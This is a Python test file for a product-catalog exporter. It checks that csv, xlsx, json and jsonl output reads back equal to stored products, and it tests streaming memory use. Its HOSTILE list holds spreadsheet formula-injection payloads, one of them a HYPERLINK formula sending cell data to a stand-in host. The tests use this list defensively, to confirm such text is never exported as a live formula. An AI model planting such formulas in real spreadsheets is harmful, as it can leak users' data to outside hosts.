"""csv, xlsx, json and jsonl exports read back (csv module, openpyxl, json) equal the mirror.

The catalog includes what breaks naive writers: commas, quotes and line breaks in text,
non-ASCII, variants, several images, SEO fields, a product without image. Each file is read
back with a standard reader and rebuilt into products, which must equal the mirror's (read
through the state store, not from what the test wrote) field by field.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import time
import tracemalloc
import xml.etree.ElementTree as ET
import zipfile
from dataclasses import replace
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

from bridge_agent.export import ExportRequest, export_catalog
from bridge_agent.export.fields import COLUMNS, GROUPS, select
from bridge_agent.model import Category, Change, Image, Product, Variant
from bridge_agent.store import StateStore
from bridge_agent.store.journal import Outcome, Received, Replaced
from bridge_agent.store.jsonld import Kept
from bridge_agent.testing.catalog import make_product

PRODUCT_TEXT = ("id", "sku", "title", "status", "url", "slug", "price", "regular_price",
                "sale_price", "currency", "availability", "brand", "gtin", "description_html",
                "short_description_html", "seo_title", "seo_description")  # fmt: skip
VARIANT_TEXT = ("sku", "title", "price", "regular_price", "sale_price", "availability", "gtin")


def tricky() -> Product:
    return Product(
        id="900", title='Sweat "Été", édition 2026', sku="SW-900", slug="sweat-ete",
        url="https://shop.example/sweat-ete", status="draft",
        description_html='<p>Soft, warm;\r\nand "cosy".</p>\n<p>Line 2</p>',
        short_description_html="Short, sweet", seo_title="Sweat d'été | Boutique",
        seo_description="Le sweat, en coton bio.\nLivraison offerte", price="49.90",
        regular_price="59.90", sale_price="49.90", currency="EUR", availability="BackOrder",
        stock_quantity=0, brand="Maison, & Fils", gtin="3700000000001",
        categories=(Category("1", "Sweats", ("Vêtements", "Sweats")), Category("2", "Soldes")),
        tags=("coton, bio", "hiver"),
        images=(Image("a", "https://shop.example/a.jpg", "Face, avant", 0),
                Image("b", "https://shop.example/b.jpg", "", 1),
                Image("c", "https://shop.example/c.jpg", 'Dos "zoom"', 2)),
        variants=(Variant("v1", sku="SW-900-S", title="S / Bleu",
                          options=(("Taille", "S"), ("Couleur", "Bleu")), price="49.90",
                          regular_price="59.90", sale_price="49.90", availability="InStock",
                          stock_quantity=3, image_id="c", gtin="3700000000018"),
                  Variant("v2", sku="SW-900-M", options=(("Taille", "M"),), price="52.00",
                          availability="OutOfStock", stock_quantity=0)),
        updated_at="2026-11-23T10:00:00Z",
    )  # fmt: skip


def catalog() -> list[Product]:
    return [*(make_product(i) for i in range(25)), tricky()]


def fill(state_dir: Path, products: list[Product]) -> dict[str, Product]:
    async def write() -> dict[str, Product]:
        async with StateStore.open(state_dir) as state:
            now = int(time.time() * 1000)
            await state.record([Change("main", p.id, p, "import", now) for p in products])
            found = await state.mirror_products("main", [p.id for p in products])
            return {i: p for i, (p, _hash) in found.items()}

    return asyncio.run(write())


def export(state_dir: Path, fmt: str, **kwargs: Any) -> tuple[bytes, Any]:
    out = io.BytesIO()
    report = export_catalog(state_dir, ExportRequest(store="main", format=fmt, **kwargs), out)  # type: ignore[arg-type]
    return out.getvalue(), report


# -- rebuilding products from a table ---------------------------------------------------------


def _list(cell: Any) -> list[str]:
    return str(cell).split(" | ") if cell not in (None, "") else []


def _cell(row: dict[str, Any], key: str, convert: Any) -> Any:
    return convert(row[key]) if row[key] not in (None, "") else None


def rebuild(rows: list[dict[str, Any]], money: Any = str) -> dict[str, dict[str, Any]]:
    """Rows of a csv or xlsx export -> {id: comparable dict}, variants under their product."""
    out: dict[str, dict[str, Any]] = {}
    for row in rows:
        if row["variant_id"]:
            variant = {k: row[k] or None for k in VARIANT_TEXT}
            for k in ("price", "regular_price", "sale_price"):
                variant[k] = _cell(row, k, money)
            variant["stock_quantity"] = _cell(row, "stock_quantity", int)
            options = row["options"].split("; ") if row["options"] else []
            variant["options"] = [tuple(o.split("=", 1)) for o in options]
            variant["image"] = row["image_link"] or None
            out[row["id"]]["variants"].append({"id": row["variant_id"], **variant})
            continue
        product = {k: row[k] or None for k in PRODUCT_TEXT}
        for k in ("price", "regular_price", "sale_price"):
            product[k] = _cell(row, k, money)
        product["stock_quantity"] = _cell(row, "stock_quantity", int)
        product["categories"] = [tuple(p.split(" > ")) for p in _list(row["categories"])]
        product["tags"] = _list(row["tags"])
        srcs = _list(row["images"])
        alts = _list(row["image_alts"]) or [""] * len(srcs)
        product["images"] = list(zip(srcs, alts, strict=True))
        product["variants"] = []
        out[row["id"]] = product
    return out


def expected(product: Product, money: Any = str) -> dict[str, Any]:
    """What a table holds of a mirror product, in the shape `rebuild` gives."""
    out: dict[str, Any] = {k: getattr(product, k) for k in PRODUCT_TEXT}
    for k in ("price", "regular_price", "sale_price"):
        out[k] = money(out[k]) if out[k] is not None else None
    out["stock_quantity"] = product.stock_quantity
    out["categories"] = [c.path or (c.name,) for c in product.categories]
    out["tags"] = list(product.tags)
    out["images"] = [(i.src, i.alt) for i in sorted(product.images, key=lambda i: i.position)]
    if not any(alt for _src, alt in out["images"]):
        out["images"] = [(src, "") for src, _alt in out["images"]]
    images = {i.id: i.src for i in product.images}
    out["variants"] = [
        {"id": v.id, **{k: getattr(v, k) for k in VARIANT_TEXT},
         **{k: money(getattr(v, k)) if getattr(v, k) is not None else None
            for k in ("price", "regular_price", "sale_price")},
         "stock_quantity": v.stock_quantity, "options": list(v.options),
         "image": images.get(v.image_id) if v.image_id else None}
        for v in product.variants
    ]  # fmt: skip
    return out


# -- csv ---------------------------------------------------------------------------------------


def test_csv_reads_back_equal_to_the_mirror(tmp_path: Path) -> None:
    mirror = fill(tmp_path, catalog())
    data, report = export(tmp_path, "csv")
    assert not data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8")
    assert "\r\n" in text and text.endswith("\r\n")  # RFC 4180 line ends
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    header = text.split("\r\n", 1)[0].split(",")
    assert header == [c.name for c in COLUMNS if c.group in ("basic", "seo")]
    assert rebuild(rows) == {i: expected(p) for i, p in mirror.items()}
    assert report.products == len(mirror)
    assert report.variants == sum(len(p.variants) for p in mirror.values())
    assert report.rows == len(rows) == report.products + report.variants


def test_csv_bom_for_excel_and_a_stable_column_order(tmp_path: Path) -> None:
    fill(tmp_path, catalog())
    data, _report = export(tmp_path, "csv", bom=True, fields=("seo", "title", "basic"))
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text, newline="")))
    same = select(["basic", "seo"]).names
    assert tuple(header) == same  # the order of the request does not matter
    data, _report = export(tmp_path, "csv", fields=("seo_title", "price"))
    header = next(csv.reader(io.StringIO(data.decode(), newline="")))
    assert header == ["id", "variant_id", "status", "price", "seo_title"]


def test_structured_data_and_history_columns(tmp_path: Path) -> None:
    products = catalog()
    fill(tmp_path, products)
    optimized = Product(**{**{n: getattr(products[3], n) for n in Product.__dataclass_fields__},
                           "seo_title": "New title"})  # fmt: skip

    async def apply() -> None:
        async with StateStore.open(tmp_path) as state:
            await state.journal_received(
                "main", [Received("opt-1", "3", {"seo_title": {"to": "New title"}}, 1)], "c1"
            )
            await state.journal_outcome(
                "main",
                [Outcome("opt-1", "applied",
                         replaced=[Replaced("3", "seo_title", None, None, "New title")])],
                changes=[Change("main", "3", optimized, "verify", int(time.time() * 1000))],
                jsonld=[Kept("3", None, "fp", {"@type": "Product", "name": "x"}, None)],
            )  # fmt: skip

    asyncio.run(apply())
    data, _report = export(tmp_path, "csv", fields=("all",))
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(data.decode(), newline=""))
            if not r["variant_id"]}  # fmt: skip
    assert list(rows["0"]) == [c.name for c in COLUMNS]
    assert set(GROUPS) == {c.group for c in COLUMNS}
    assert rows["3"]["seo_title"] == "New title"
    assert json.loads(rows["3"]["jsonld"]) == {"@type": "Product", "name": "x"}
    (change,) = json.loads(rows["3"]["history"])
    assert change["field"] == "seo_title" and change["old"] is None
    assert change["new"] == "New title" and change["optimization"] == "opt-1"
    assert rows["3"]["changes"] == "1" and rows["3"]["last_changed_at"] == change["at"]
    assert rows["4"]["history"] == rows["4"]["jsonld"] == ""


def test_filters_by_category_and_status(tmp_path: Path) -> None:
    fill(tmp_path, catalog())
    data, report = export(tmp_path, "csv", filters={"category": ("clothing",)})
    ids = {r["id"] for r in csv.DictReader(io.StringIO(data.decode(), newline=""))}
    assert ids == {str(i) for i in range(25) if i % 4 in (0, 1)}
    data, report = export(tmp_path, "csv", filters={"status": ("draft",), "category": ("Soldes",)})
    ids = {r["id"] for r in csv.DictReader(io.StringIO(data.decode(), newline=""))}
    assert ids == {"900"} and report.products == 1


# -- xlsx --------------------------------------------------------------------------------------


def test_xlsx_reads_back_equal_to_the_mirror_with_typed_cells(tmp_path: Path) -> None:
    mirror = fill(tmp_path, catalog())
    data, report = export(tmp_path, "xlsx")
    book = load_workbook(io.BytesIO(data))
    sheet = book["products"]
    assert sheet.freeze_panes == "A2"
    names = [c.value for c in sheet[1]]
    assert names == [c.name for c in COLUMNS if c.group in ("basic", "seo")]
    assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(names)).column_letter}{sheet.max_row}"
    assert sheet.column_dimensions["D"].width == 40  # title
    rows = [dict(zip(names, values, strict=True))
            for values in sheet.iter_rows(min_row=2, values_only=True)]  # fmt: skip
    for row in rows:  # typed cells: numbers and dates, never numbers as text
        for k in ("price", "regular_price", "sale_price"):
            assert row[k] is None or isinstance(row[k], int | float)
        assert row["stock_quantity"] is None or isinstance(row["stock_quantity"], int)
        assert row["variant_id"] or isinstance(row["recorded_at"], datetime)
    price = sheet.cell(2, names.index("price") + 1)
    assert price.number_format == "#,##0.00"

    def money(value: Any) -> Decimal:
        return Decimal(str(value)).normalize()

    for row in rows:  # the text columns come back as text (None when empty)
        for k in ("id", "variant_id", "options", "tags", "categories", "images", "image_alts"):
            row[k] = "" if row[k] is None else row[k]
    rebuilt = rebuild(rows, money=money)
    # XML (inside xlsx) reads a CR LF line end as LF: the one change a spreadsheet makes.
    wanted = {i: expected(p, money=money) for i, p in mirror.items()}
    for product in wanted.values():
        if product["description_html"]:
            product["description_html"] = product["description_html"].replace("\r\n", "\n")
    assert rebuilt == wanted
    updated = {r["id"]: r["updated_at"] for r in rows if not r["variant_id"]}
    assert updated["900"] == datetime(2026, 11, 23, 10, 0, 0)
    summary = {(r[0], r[1]): r[2] for r in book["summary"].iter_rows(min_row=2, values_only=True)}
    assert summary[("products", None)] == report.products == len(mirror)
    assert summary[("status", "draft")] == 1
    assert summary[("status", "active")] == 25
    by_availability = {k[1]: n for k, n in summary.items() if k[0] == "availability"}
    assert by_availability == {
        a: sum(1 for p in mirror.values() if p.availability == a)
        for a in {p.availability for p in mirror.values()}
    }
    assert summary[("missing SEO field", "seo_title")] == 25
    no_alt = sum(1 for p in mirror.values() if not p.images or not p.images[0].alt)
    assert summary[("missing SEO field", "image_alt")] == no_alt


# -- json, jsonl ---------------------------------------------------------------------------------


def test_json_and_jsonl_hold_the_canonical_model(tmp_path: Path) -> None:
    mirror = fill(tmp_path, catalog())
    data, report = export(tmp_path, "jsonl")
    lines = data.decode().splitlines()
    assert len(lines) == len(mirror) == report.rows
    records = [json.loads(line) for line in lines]
    for rec in records:
        assert rec.pop("recorded_at").endswith("Z")
        assert Product.from_dict(rec) == mirror[rec["id"]]
    data, report = export(tmp_path, "json")
    doc = json.loads(data)
    assert doc["export"]["store"] == "main" and doc["summary"]["products"] == len(mirror)
    assert [r["id"] for r in doc["products"]] == [r["id"] for r in records]
    for rec in doc["products"]:
        rec.pop("recorded_at")
        assert Product.from_dict(rec) == mirror[rec["id"]]
    data, _report = export(tmp_path, "jsonl", fields=("seo",))
    first = json.loads(data.decode().splitlines()[0])
    assert set(first) <= {"id", "sku", "title", "url", "seo_title", "seo_description", "images",
                          "recorded_at"}  # fmt: skip


def test_an_empty_store_gives_valid_empty_files(tmp_path: Path) -> None:
    fill(tmp_path, [make_product(1)])
    for fmt in ("csv", "json", "jsonl", "xml", "xlsx"):
        out = io.BytesIO()
        report = export_catalog(tmp_path, ExportRequest(store="other", format=fmt), out)  # type: ignore[arg-type]
        assert report.products == 0 and report.mark is not None
        if fmt == "json":
            assert json.loads(out.getvalue())["products"] == []
        if fmt == "xlsx":
            assert load_workbook(out)["products"].max_row == 1
        if fmt == "xml":
            assert ET.fromstring(out.getvalue()).findall("./channel/item") == []


# -- streaming ---------------------------------------------------------------------------------


class _Sink(io.RawIOBase):
    """Takes the bytes and keeps none: what is measured is the exporter's own memory."""

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        return len(data)


def _peak(state_dir: Path, fmt: str) -> int:
    tracemalloc.start()
    try:
        request = ExportRequest(store="main", format=fmt, fields=("all",))  # type: ignore[arg-type]
        export_catalog(state_dir, request, _Sink())  # type: ignore[arg-type]
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_memory_does_not_grow_with_the_catalog(tmp_path: Path) -> None:
    """Four times the products, (nearly) the same peak: the catalog is streamed, never held.
    (The writers differ only in how they write one record; one of each kind is measured.)"""
    small, large = tmp_path / "small", tmp_path / "large"
    for where, count in ((small, 600), (large, 2400)):
        fill(where, [make_product(i) for i in range(count)])
    export(small, "xml")  # the taxonomy is read once per process, not per export
    for fmt in ("csv", "xml", "xlsx"):
        base, grown = _peak(small, fmt), _peak(large, fmt)
        assert grown < base * 1.3 + 256 * 1024, (fmt, base, grown)


# -- store text is data: never a formula, never an abort -------------------------------------

HOSTILE = ('=HYPERLINK("https://evil.example/?"&B2,"open")', "+1+2", "-2+3", "@SUM(A1)",
           "\t=1", "\r=1", "#N/A")  # fmt: skip


def test_xlsx_writes_store_text_as_strings_never_formulas(tmp_path: Path) -> None:
    products = [
        replace(make_product(i), title=text, seo_description=text) for i, text in enumerate(HOSTILE)
    ]
    fill(tmp_path, products)
    data, _report = export(tmp_path, "xlsx")
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    rows = list(load_workbook(io.BytesIO(data))["products"].values)
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    by_id = {r["id"]: r for r in records if not r["variant_id"]}
    for i, text in enumerate(HOSTILE):
        read = text.replace("\r", "\n")  # XML reads a lone CR as a line end
        assert by_id[str(i)]["title"] == read  # the text itself, as a string cell
        assert by_id[str(i)]["seo_description"] == read


def test_xlsx_drops_control_characters_and_counts_them(tmp_path: Path) -> None:
    fill(tmp_path, [replace(make_product(1), title="a\x01b\x1fc"), make_product(2)])
    data, report = export(tmp_path, "xlsx")  # before: IllegalCharacterError, no file at all
    book = load_workbook(io.BytesIO(data))
    rows = list(book["products"].values)
    assert {r[0]: dict(zip(rows[0], r, strict=True))["title"] for r in rows[1:]}["1"] == "abc"
    summary = {row[0]: row[2] for row in book["summary"].values}
    assert summary["cells with control characters dropped"] == 1
    assert report.cleaned == 1 and "1 cell(s) with control characters dropped" in report.summary()


def test_csv_quotes_text_a_spreadsheet_would_run_unless_raw(tmp_path: Path) -> None:
    products = [replace(make_product(i), title=text) for i, text in enumerate(HOSTILE)]
    products.append(replace(make_product(9), price="-1.50", regular_price="-1.50"))
    fill(tmp_path, products)
    data, _report = export(tmp_path, "csv")
    rows = [r for r in csv.DictReader(io.StringIO(data.decode())) if not r["variant_id"]]
    titles = {r["id"]: r["title"] for r in rows}
    for i, text in enumerate(HOSTILE):
        want = text if text == "#N/A" else f"'{text}"
        assert titles[str(i)] == want
    assert next(r for r in rows if r["id"] == "9")["price"] == "-1.50"
    raw, _report = export(tmp_path, "csv", raw=True)
    rows = [r for r in csv.DictReader(io.StringIO(raw.decode())) if not r["variant_id"]]
    assert {r["id"]: r["title"] for r in rows} == {
        **{str(i): text for i, text in enumerate(HOSTILE)},
        "9": titles["9"],
    }
